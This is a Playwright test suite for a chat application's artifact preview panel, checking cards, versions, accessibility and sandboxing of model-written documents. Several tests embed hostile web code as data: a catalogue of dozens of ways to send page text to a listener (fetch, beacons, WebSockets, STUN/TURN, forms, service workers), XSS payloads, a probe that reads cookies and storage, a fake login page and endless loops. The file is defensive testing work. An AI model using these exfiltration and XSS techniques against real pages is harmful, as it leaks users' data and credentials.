"""Artifacts beside the chat: cards, versions, previews, and documents that mean harm."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Sequence
from pathlib import Path

import pytest
from playwright.async_api import Browser, Frame, Page, ViewportSize, expect

from tests.support.web.accessible import axe as axe
from tests.support.web.accessible import findings, set_size, set_theme, wider
from tests.support.web.chats import SECONDS, Chat, chatting
from tests.support.web.leaks import Listener, listening

PHONE: ViewportSize = {"width": 390, "height": 844}
CLOCK = """<!doctype html><title>Clock</title>
<h1>Clock</h1><p id="now">not run</p>
<script>document.getElementById("now").textContent = "it runs";</script>"""
SVG = """<svg viewBox="0 0 10 10" width="100" height="100"><title>Dot</title>
<circle cx="5" cy="5" r="4" fill="teal" /></svg>"""
MARK_AS_BEGUN = "document.title = 'begun'"
"""The first statement of hostile documents, by which a test knows that their scripts ran."""


def fence_code(code: str, info: str = 'html title="Clock"') -> str:
    return f"Here it is.\n\n```{info}\n{code}\n```\n\nThat is all."


async def answer(chat: Chat, text: str, question: str = "Make me something.") -> None:
    """Have the model answer this."""
    await chat.say(question)
    await (await chat.model.next_request()).answer(text)
    await chat.wait_until_idle()


async def open_card(chat: Chat, name: str = "Open: Clock") -> None:
    """Open the last artifact of this name beside the chat."""
    card = chat.page.get_by_role("button", name=name).last
    heading = chat.page.locator(".artifact-panel h2")
    await card.click()
    while name.removeprefix("Open: ") not in await heading.all_inner_texts():
        await card.click()  # an answer is drawn again at its end, with its cards
    await expect(chat.page.locator(".artifact-panel")).to_be_visible()


async def run_artifact(chat: Chat) -> Frame:
    """Run the artifact that is open, and return its frame once it has a document."""
    await chat.page.locator(".artifact-panel").get_by_role("button", name="Run").click()
    element = await chat.page.locator("iframe").element_handle()
    frame = await element.content_frame()
    assert frame
    await frame.wait_for_load_state()
    return frame


async def overlook_refusals(chat: Chat) -> None:
    """Ignore the messages of the console about the artifact's requests that were refused."""
    chat.leave()
    await chat.page.goto(f"{chat.up.url}/manifest.webmanifest")
    chat.faults.clear()


@pytest.mark.slow
async def test_an_artifact_is_code_while_it_comes_and_then_a_card(chat: Chat) -> None:
    await chat.say("A clock, please.")
    reply = await chat.model.next_request()
    await reply.say(f'```html title="Clock"\n{CLOCK[:90]}')
    await expect(chat.page.locator(".code-block pre")).to_be_visible()
    await expect(chat.page.locator(".artifact")).to_have_count(0)
    await reply.answer(f"{CLOCK[90:]}\n```\n")
    await chat.wait_until_idle()

    card = chat.page.locator(".artifact")
    await expect(card.locator(".artifact-title")).to_have_text("Clock")
    await expect(card.locator("pre")).to_be_hidden()
    await card.get_by_role("button", name="Show code").click()
    await expect(card.locator("pre")).to_contain_text("it runs")


@pytest.mark.slow
async def test_short_examples_and_other_languages_stay_code(chat: Chat) -> None:
    program = "x = 1\n" * 90
    await answer(chat, f"```html\n<b>x</b>\n```\n\n```python\n{program}```\n")

    await expect(chat.page.locator(".code-block")).to_have_count(2)
    await expect(chat.page.locator(".artifact")).to_have_count(0)


async def test_a_page_runs_only_on_request_and_ends_with_stop(chat: Chat) -> None:
    await answer(
        chat, fence_code(CLOCK) + "\n\n" + fence_code("<p>Other</p>", 'html title="Other"')
    )
    await open_card(chat)
    panel = chat.page.locator(".artifact-panel")
    await expect(panel.get_by_role("heading", name="Clock")).to_be_focused()
    await expect(chat.page.locator("iframe")).to_have_count(0)

    frame = await run_artifact(chat)
    assert await frame.locator("#now").inner_text() == "it runs"
    assert await frame.evaluate("origin") == "null"
    await expect(panel).to_contain_text("Made by the model, not by this chat.")
    await open_card(chat, "Open: Other")
    await expect(chat.page.locator("iframe")).to_have_count(0)
    await open_card(chat)
    await run_artifact(chat)
    await panel.get_by_role("button", name="Stop").click()
    await expect(chat.page.locator("iframe")).to_have_count(0)

    await panel.get_by_role("button", name="Close").press("Escape")
    await expect(panel).to_have_count(0)
    await expect(chat.page.get_by_role("button", name="Open: Clock")).to_be_focused()


@pytest.mark.slow
async def test_answers_with_the_same_title_are_versions(chat: Chat) -> None:
    for number in (1, 2):
        await answer(chat, fence_code(CLOCK.replace("not run", f"take {number}")))
    await answer(chat, fence_code(CLOCK, 'html title="Other"'))
    await open_card(chat)

    panel = chat.page.locator(".artifact-panel")
    await expect(panel).to_contain_text("2 of 2")
    await panel.get_by_role("button", name="Code", exact=True).click()
    await expect(panel.locator("pre")).to_contain_text("take 2")
    await panel.get_by_role("button", name="Older version").click()
    await expect(panel).to_contain_text("1 of 2")
    await expect(panel.locator("pre")).to_contain_text("take 1")
    await answer(chat, fence_code(CLOCK.replace("not run", "take 3")))
    await expect(panel).to_contain_text("1 of 3")


async def test_a_picture_is_shown_at_once_and_its_scripts_never(chat: Chat) -> None:
    async with listening() as listener:
        hostile = SVG.replace(
            "</svg>",
            f'<script>document.title = "ran"</script><image href="{listener.origin}/x"/></svg>',
        )
        await answer(chat, fence_code(hostile, "svg"))
        await open_card(chat, "Open: Dot")
        element = await chat.page.locator("iframe").element_handle()
        frame = await element.content_frame()
        assert frame
        await expect(frame.locator("circle")).to_be_visible()

        assert await element.get_attribute("sandbox") == ""
        assert await frame.title() == "SVG"
        assert listener.heard == []
    await overlook_refusals(chat)


@pytest.mark.slow
async def test_markdown_is_drawn_by_the_page_itself(chat: Chat) -> None:
    text = "# Plan\n\nOne <img src=x onerror=alert(1)> **two**.\n\n" + "- more\n" * 40
    await answer(chat, fence_code(text, "markdown"))
    await open_card(chat, "Open: Plan")

    panel = chat.page.locator(".artifact-panel")
    await expect(panel.locator("strong")).to_have_text("two")
    await expect(panel.locator("img, iframe")).to_have_count(0)
    async with chat.page.expect_download() as download_info:
        await panel.get_by_role("button", name="Download").click()
    file = await (await download_info.value).path()
    assert (await download_info.value).suggested_filename == "Plan.md"
    assert Path(file).read_text("utf-8").strip() == text.strip()


async def test_a_diagram_is_drawn_and_its_text_does_nothing(chat: Chat) -> None:
    async with listening() as listener:
        hostile = (
            "graph TD\n  A[Start] --> B[\"<img src='L/i' onerror='top.x=1'>End\"]\n"
            "  click B href \"javascript:fetch('L/c')\"\n"
        )
        await answer(chat, fence_code(fill_in(hostile, listener), 'mermaid title="Way"'))
        await open_card(chat, "Open: Way")
        element = await chat.page.locator("iframe").element_handle()
        frame = await element.content_frame()
        assert frame
        await expect(frame.locator("svg")).to_contain_text("Start")
        assert await frame.locator("script").count() == 2  # those of the chat
        assert "javascript:" not in await frame.locator("svg").evaluate("it => it.outerHTML")
        assert listener.heard == []

    await answer(
        chat, fence_code("graph TD\n  A --> ]]] </pre><script>1</script>", "mermaid title=Bad")
    )
    await open_card(chat, "Open: Bad")
    element = await chat.page.locator("iframe").element_handle()
    frame = await element.content_frame()
    assert frame
    await expect(frame.locator("#fault")).to_contain_text("rror")
    assert await frame.locator("script").count() == 2
    await overlook_refusals(chat)


@pytest.mark.slow
async def test_an_artifact_of_a_branch_is_shown_there_too(chat: Chat) -> None:
    await answer(chat, fence_code(CLOCK))
    await answer(chat, "Fine.", "Is it fine?")
    await chat.answers.last.get_by_role("button", name="Answer again").click()
    await (await chat.model.next_request()).answer("Very fine.")
    await chat.wait_until_idle()
    await open_card(chat)

    frame = await run_artifact(chat)
    assert await frame.locator("#now").inner_text() == "it runs"


async def test_without_a_second_origin_there_is_code_and_an_explanation(
    chromium: Browser, tmp_path: Path
) -> None:
    # Opened under a name that is not this machine's, as behind a proxy.
    flags = ("--no-servers", "--public-url", "http://chat.example.org")
    async with chatting(chromium, tmp_path, *flags) as chat:
        await answer(chat, fence_code(CLOCK))
        await open_card(chat)

        panel = chat.page.locator(".artifact-panel")
        await expect(panel).to_contain_text("There is no preview here, only the code.")
        await expect(panel.get_by_role("button", name="Run")).to_have_count(0)
        shell = await chat.context.request.get(chat.up.url)
        assert "frame-src" not in shell.headers["content-security-policy"]


# Hostile documents. `L` is the origin of the listener, `TCP` and `UDP` are its ports.

RTC = """const line = new RTCPeerConnection({ iceServers: [SERVER] });
line.createDataChannel("x");
line.createOffer().then((offer) => line.setLocalDescription(offer));"""
STUN = RTC.replace("SERVER", '{ urls: "stun:127.0.0.1:UDP" }')
TURN = RTC.replace(
    "SERVER",
    '{ urls: "turn:127.0.0.1:TCP?transport=tcp", username: "secret", credential: "x" }',
)
ATTEMPTS = {
    "fetch": "fetch('L/fetch?' + document.body.textContent).catch(() => {});",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', 'L/xhr'); x.send('x');",
    "beacon": "navigator.sendBeacon('L/beacon', 'x');",
    "socket": "try { new WebSocket('ws://127.0.0.1:TCP/socket'); } catch {}",
    "events": "try { new EventSource('L/events'); } catch {}",
    "transport": "try { new WebTransport('https://127.0.0.1:TCP/'); } catch {}",
    "stun": f"try {{ {STUN} }} catch {{}}",
    "turn": f"try {{ {TURN} }} catch {{}}",
    "picture": "new Image().src = 'L/picture';",
    "style": "add('style').textContent = '@import \"L/style\"; body { background: url(L/b) }';",
    "font": "add('style').textContent = '@font-face { font-family: f; src: url(L/f) } * "
    "{ font-family: f }';",
    "script": "add('script').src = 'L/script';",
    "module": "import('L/module').catch(() => {});",
    "worker": "try { new Worker(URL.createObjectURL(new Blob(['fetch(\"L/worker\")']))) } catch {}",
    "form": "const f = add('form'); f.method = 'post'; f.action = 'L/form'; f.submit();",
    "window": "window.open('L/window');",
    "top": "try { top.location = 'L/top'; } catch {}",
    "parent": "try { parent.location = 'L/parent'; } catch {}",
    "self": "location = 'L/self?' + encodeURIComponent(document.body.textContent);",
    "replace": "location.replace('L/replace');",
    "script address": "location = `javascript:location = 'L/address'`;",
    "blob": "location = URL.createObjectURL(new Blob([\"<script>location = 'L/blob'</scr\" + "
    "'ipt>'], { type: 'text/html' }));",
    "data": "location = \"data:text/html,<script>location = 'L/data'</scr\" + 'ipt>';",
    "refresh": "const m = add('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=L/refresh';",
    "ping": "const a = add('a'); a.href = '#x'; a.ping = 'L/ping'; a.click();",
    "link": "const a = add('a'); a.href = 'L/link'; a.target = '_blank'; a.click();",
    "download": "const a = add('a'); a.href = 'L/download'; a.download = 'x'; a.click();",
    "base": "add('base').href = 'L/'; new Image().src = 'base';",
    "nested": "add('iframe').src = 'L/nested'; add('object').data = 'L/o'; add('embed').src = "
    "'L/e';",
    "nested document": "add('iframe').srcdoc = `<img src='L/srcdoc'><script>location = 'L/in'</scr`"
    " + `ipt>`;",
    "speculation": "const s = add('script'); s.type = 'speculationrules'; s.textContent = "
    "JSON.stringify({ prefetch: [{ source: 'list', urls: ['L/rules'], eagerness: 'eager' }] });",
    **{
        name: f"const l = add('link'); l.rel = '{name}'; l.as = 'image'; l.href = 'L/{name}';"
        for name in (
            *("prefetch", "prerender", "preload", "modulepreload", "preconnect", "dns-prefetch"),
            *("stylesheet", "icon", "manifest"),
        )
    },
    "sending worker": "navigator.serviceWorker?.register('L/sw.js').catch(() => {});",
}
PASSIVE = """<meta http-equiv="refresh" content="0;url=L/meta"><base href="L/">
<link rel="preconnect" href="L"><link rel="prefetch" href="L/p"><link rel="stylesheet" href="L/s">
<img src="L/i" srcset="L/i2 2x"><video src="L/v" poster="L/vp" autoplay></video>
<audio src="L/a" autoplay></audio><iframe src="L/f"></iframe><object data="L/o"></object>
<embed src="L/e"><svg><image href="L/si"/><use href="L/su#x"/></svg>
<input type="image" src="L/in"><body background="L/bg"><table background="L/tb"></table>"""
NAVIGATING = ("form", "self", "replace", "script address", "blob", "data", "refresh", "download")
"""Attempts that replace their document, and so end later ones; each has its own document."""
HELPER = """const tried = [];
const add = (tag) => document.body.appendChild(document.createElement(tag));"""
SET_END = "setTimeout(() => { document.title = 'over'; }, 0);"


def fill_in(code: str, listener: Listener) -> str:
    """Return the code with the addresses of the listener."""
    ports = code.replace("TCP", str(listener.tcp)).replace("UDP", str(listener.udp))
    return ports.replace("L/", f"{listener.origin}/").replace('"L"', f'"{listener.origin}"')


def hostile_document(names: Sequence[str], listener: Listener) -> str:
    """Return a document that makes these attempts in turn, even after errors."""
    scripts = (
        f"<script>{{ tried.push('{name}');\n{fill_in(ATTEMPTS[name], listener)} }}</script>"
        for name in names
    )
    return f"<body>secret<script>{MARK_AS_BEGUN};{HELPER}</script>{''.join(scripts)}"


async def wait_until_drawn(page: Page) -> None:
    """Wait until the page has drawn twice and answered its server: it is alive."""
    two_frames = "new Promise((end) => requestAnimationFrame(() => requestAnimationFrame(end)))"
    await page.evaluate(f"{two_frames}.then(() => fetch('/healthz')).then((it) => it.text())")


async def test_nothing_that_a_document_tries_leaves_the_browser(chat: Chat) -> None:
    staying_names = [name for name in ATTEMPTS if name not in NAVIGATING]
    async with listening() as listener:
        documents = {name: hostile_document([name], listener) for name in NAVIGATING}
        documents |= {"staying": hostile_document(staying_names, listener)}
        documents |= {"passive": fill_in(PASSIVE, listener)}
        blocks = [fence_code(code, f'html title="{name}.html"') for name, code in documents.items()]
        await answer(chat, "\n\n".join(blocks))
        for name in documents:
            await open_card(chat, f"Open: {name}.html")
            frame = await run_artifact(chat)
            await wait_until_drawn(chat.page)
            if name == "staying":
                assert await frame.evaluate("tried") == staying_names
        await check_that_nothing_was_received(chat, listener)

        assert chat.page.url.startswith(chat.up.url)
        assert len(chat.context.pages) == 1
        reports = await chat.page.evaluate("window.reports")
        assert len(reports) > 4  # attempts to leave, which the policy of the page reports
        assert {each.partition(":")[0] for each in reports} == {"frame-src"}
    await overlook_refusals(chat)


async def check_that_nothing_was_received(chat: Chat, listener: Listener) -> None:
    """Check that nothing was received so far, and that packets without a policy are received."""
    other_page = await chat.context.new_page()
    await other_page.goto(f"{listener.origin}/proof")
    await other_page.evaluate(STUN.replace("UDP", str(listener.udp)))
    async with asyncio.timeout(SECONDS):
        while not any(packet[4:8] == b"\x21\x12\xa4\x42" for packet in listener.heard):
            await other_page.evaluate("new Promise((end) => setTimeout(end, 20))")
    await other_page.close()
    requests = [packet for packet in listener.heard if packet[4:8] != b"\x21\x12\xa4\x42"]
    unexpected = [
        packet for packet in requests if b" /proof " not in packet and b"favicon" not in packet
    ]
    assert unexpected == []
    assert listener.heard[0].startswith(b"GET /proof ")


async def show(chat: Chat, name: str, code: str) -> Frame:
    """Have the model write this document, run it, and return its frame."""
    await answer(chat, fence_code(code, f'html title="{name}"'))
    await open_card(chat, f"Open: {name}")
    return await run_artifact(chat)


PROBE = """
const results = {};
function attempt(name, act) {
  try { results[name] = String(act()); } catch { results[name] = "no"; }
}
attempt("cookie", () => document.cookie);
attempt("cookie set", () => { document.cookie = "antiphon_session=x"; return "set"; });
attempt("local", () => localStorage.length);
attempt("session", () => sessionStorage.length);
attempt("database", () => indexedDB.open("x").error);
attempt("parent", () => parent.document.title);
attempt("top", () => top.location.href);
attempt("sibling", () => parent.frames[0].parent.document);
attempt("storage", () => parent.localStorage);
attempt("frame", () => frameElement);
attempt("referrer", () => document.referrer);
attempt("question", () => confirm("x"));
attempt("origin", () => origin);
parent.postMessage({ type: "login", token: "x" }, "*");
document.body.textContent = JSON.stringify(results);
"""


async def test_a_document_reads_and_reaches_nothing_of_the_page(chat: Chat) -> None:
    cookies = await chat.context.cookies()
    padded_page = f"<body>{' ' * 200}<script>{PROBE}</script>"
    frame = await show(chat, "look.html", padded_page)
    results = json.loads(await frame.locator("body").inner_text())

    readable = ("frame", "referrer", "question", "origin")
    assert {results.pop(name) for name in readable} == {"null", "", "false"}
    assert set(results.values()) == {"no"}, results
    assert await chat.context.cookies() == cookies
    await wait_until_drawn(chat.page)
    await expect(chat.page.locator(".artifact-panel")).to_contain_text("look.html")
    await expect(chat.composer).to_be_visible()
    await overlook_refusals(chat)


@pytest.mark.parametrize(
    "code",
    [
        "for (;;) {}",
        "const all = []; for (;;) all.push(1); ",
        "(function again() { Promise.resolve().then(again); })();",
        "setInterval(() => { for (;;) {} }, 0);",
    ],
)
async def test_a_document_that_loops_does_not_stop_the_page(
    chromium: Browser, tmp_path: Path, code: str
) -> None:
    async with chatting(chromium, tmp_path, "--no-servers", fresh=True) as chat:
        await answer(chat, fence_code(f"<script>{MARK_AS_BEGUN};{code}</script>{' ' * 200}"))
        await open_card(chat)
        await chat.page.locator(".artifact-panel").get_by_role("button", name="Run").click()
        await expect(chat.page.locator("iframe")).to_have_count(1)

        await wait_until_drawn(chat.page)
        await answer(chat, "Still here.", "Are you there?")
        await chat.sees("Still here.")
        await chat.page.get_by_role("button", name="Stop", exact=True).click()
        await expect(chat.page.locator("iframe")).to_have_count(0)
        await overlook_refusals(chat)


async def test_a_document_that_looks_like_the_login_stands_below_the_bar_of_the_chat(
    chat: Chat,
) -> None:
    code = """<style>body { position: fixed; inset: 0; z-index: 9999 }</style>
    <h1>Antiphon</h1><form><input name="password" type="password"><button>Log in</button></form>"""
    frame = await show(chat, "Log in", code)

    bar = await chat.page.locator(".artifact-bar").bounding_box()
    document = await chat.page.locator("iframe").bounding_box()
    assert bar
    assert document
    assert bar["y"] + bar["height"] <= document["y"]
    await expect(chat.page.locator(".artifact-bar")).to_contain_text("Never enter a password")
    await frame.locator("input").fill("secret")
    await frame.locator("button").click()
    assert frame.url.startswith(chat.up.url.replace("127.0.0.1", "artifacts.localhost"))
    await overlook_refusals(chat)


async def test_a_preview_is_not_opened_outside_of_the_chat(chat: Chat) -> None:
    frame = await show(chat, "clock.html", CLOCK)
    other_page = await chat.context.new_page()
    response = await other_page.goto(frame.url)
    assert response
    assert response.status == 403
    assert "it runs" not in await other_page.content()

    async with listening() as listener:
        # The policy of the preview allows frames of the page of the chat alone.
        await other_page.goto(f"{listener.origin}/")
        await other_page.set_content(f"<iframe sandbox='allow-scripts' src='{frame.url}'></iframe>")
        await other_page.wait_for_load_state()
        assert "it runs" not in await other_page.frames[-1].content()
    await other_page.close()
    await overlook_refusals(chat)


# Accessibility.


@pytest.mark.slow
@pytest.mark.parametrize("theme", ["light", "dark"])
async def test_the_panel_has_no_barriers(chat: Chat, axe: str, theme: str) -> None:
    await answer(chat, fence_code(CLOCK))
    await open_card(chat)
    await set_theme(chat.page, theme)
    assert await findings(chat.page, axe) == []
    await chat.page.get_by_role("button", name="Code", exact=True).last.click()
    assert await findings(chat.page, axe) == []
    await set_size(chat.page, (PHONE["width"], PHONE["height"]))
    assert await findings(chat.page, axe) == []
    assert await wider(chat.page) == []


@pytest.mark.slow
async def test_the_width_is_set_by_keys_and_remembered(chat: Chat) -> None:
    await answer(chat, fence_code(CLOCK))
    await open_card(chat)
    edge = chat.page.get_by_role("separator", name="Width of the panel")
    first_box = await chat.page.locator(".artifact-panel").bounding_box()
    await edge.press("ArrowLeft")
    await expect(edge).to_have_attribute("aria-valuenow", "50")
    await chat.page.reload()
    await open_card(chat)

    second_box = await chat.page.locator(".artifact-panel").bounding_box()
    assert first_box
    assert second_box
    assert second_box["width"] > first_box["width"]


@pytest.mark.slow
async def test_on_a_phone_the_panel_covers_the_page(chat: Chat) -> None:
    await answer(chat, fence_code(CLOCK))
    await chat.page.set_viewport_size(PHONE)
    await open_card(chat)

    box = await chat.page.locator(".artifact-panel").bounding_box()
    assert box
    assert (box["x"], box["width"]) == (0, PHONE["width"])
    await chat.wait_until("() => document.getElementById('view').inert")
    await chat.page.keyboard.press("Escape")
    await chat.wait_until("() => !document.getElementById('view').inert")
    await expect(chat.composer).to_be_enabled()
